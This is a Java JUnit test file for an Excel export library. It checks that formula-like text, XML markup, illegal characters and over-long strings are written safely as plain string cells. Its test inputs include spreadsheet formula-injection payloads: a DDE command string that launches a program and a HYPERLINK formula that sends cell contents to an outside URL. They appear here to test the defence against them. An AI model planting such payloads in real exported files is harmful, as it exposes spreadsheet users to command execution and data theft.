package dev.footfall.excel;

import static org.assertj.core.api.Assertions.assertThat;

import dev.footfall.export.Column;
import dev.footfall.export.ColumnType;
import dev.footfall.export.Note;
import java.io.IOException;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
                "+1+1",
                "-1+1",
                "@SUM(1,1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "  =1+1",
                "\uFF1D1+1",
                "=cmd|' /C calc'!A0"
            })
    void textThatLooksLikeAFormulaStaysTextEvenWhenItIsEdited(String text) throws IOException {
        Written written = Written.of(
                Written.table(List.of(Column.of(text, ColumnType.TEXT)), List.of(List.of(text)), new Note(text, text)));
        Cell cell = written.cell("A2");
        assertThat(cell.getStringCellValue()).isEqualTo(text);
        assertThat(written.cell("A1").getStringCellValue()).isEqualTo(text.strip());
        for (Cell one : List.of(
                cell, written.cell("A1"), Written.cell(written.about(), "A3"), Written.cell(written.about(), "B3"))) {
            assertThat(one.getCellType()).isEqualTo(CellType.STRING);
            assertThat(one.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(one.getCellStyle().getDataFormatString()).isEqualTo("@");
        }
        assertThat(written.part("xl/styles.xml")).contains("quotePrefix=\"true\"");
        assertThat(written.sheetXml()).doesNotContain("<f>");
    }

    @Test
    void ordinaryTextIsNotQuoted() throws IOException {
        Written written = Written.column(ColumnType.TEXT, "Oak table = 1", "a-b", "00123");
        assertThat(written.sheet())
                .allSatisfy(row -> assertThat(row.getCell(0).getCellStyle().getQuotePrefixed())
                        .isFalse());
    }

    @Test
    void aLeadingApostropheIsKeptWhenTheCellIsEdited() throws IOException {
        Cell cell = Written.column(ColumnType.TEXT, "'tis").cell("A2");
        assertThat(cell.getStringCellValue()).isEqualTo("'tis");
        assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
    }

    @Test
    void markupIsText() throws IOException {
        String text = "</t></is></c><c r=\"A3\"><f>1+1</f></c> & ]]> <!-- \"";
        assertThat(read(text)).isEqualTo(text);
    }

    @Test
    void charactersThatXmlCannotHoldAreReplaced() throws IOException {
        assertThat(read("a\u0000b\u000Bc\u001Fd\uFFFEe\uFFFFf")).isEqualTo("a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf");
        assertThat(read("half \uD83D of a sign")).isEqualTo("half \uFFFD of a sign");
        assertThat(read("whole \uD83D\uDE00 signs\tand\nlines\r\nand more"))
                .isEqualTo("whole \uD83D\uDE00 signs\tand\nlines\r\nand more");
    }

    @Test
    void aCharacterCodeIsNotReadAsTheCharacter() throws IOException {
        assertThat(read("_x0041_")).isEqualTo("_x0041_");
        assertThat(read("_x003D_1+1")).isEqualTo("_x003D_1+1");
        assertThat(Written.column(ColumnType.TEXT, "_x003D_1+1").sheetXml()).contains("<t>_x005F_x003D_1+1</t>");
        assertThat(read("snake_x_case_x12")).isEqualTo("snake_x_case_x12");
    }

    @Test
    void longTextIsCutWithAnEllipsis() throws IOException {
        assertThat(read("x".repeat(32_767))).isEqualTo("x".repeat(32_767));
        assertThat(read("x".repeat(32_768))).isEqualTo("x".repeat(32_766) + "…");
        assertThat(read("x".repeat(32_765) + "\uD83D\uDE00\uD83D\uDE00")).isEqualTo("x".repeat(32_765) + "…");
        assertThat(read("x".repeat(32_760) + "_x0041_".repeat(10))).isEqualTo("x".repeat(32_760) + "…");
    }

    @Test
    void headingsAndNotesAreCutLikeCells() throws IOException {
        String text = "y".repeat(40_000);
        Written written =
                Written.of(Written.table(List.of(Column.of(text, ColumnType.TEXT)), List.of(), new Note(text, text)));
        assertThat(written.cell("A1").getStringCellValue()).hasSize(32_767);
        assertThat(Written.cell(written.about(), "B3").getStringCellValue()).hasSize(32_767);
    }

    private static String read(String text) throws IOException {
        return Written.column(ColumnType.TEXT, text).cell("A2").getStringCellValue();
    }
}
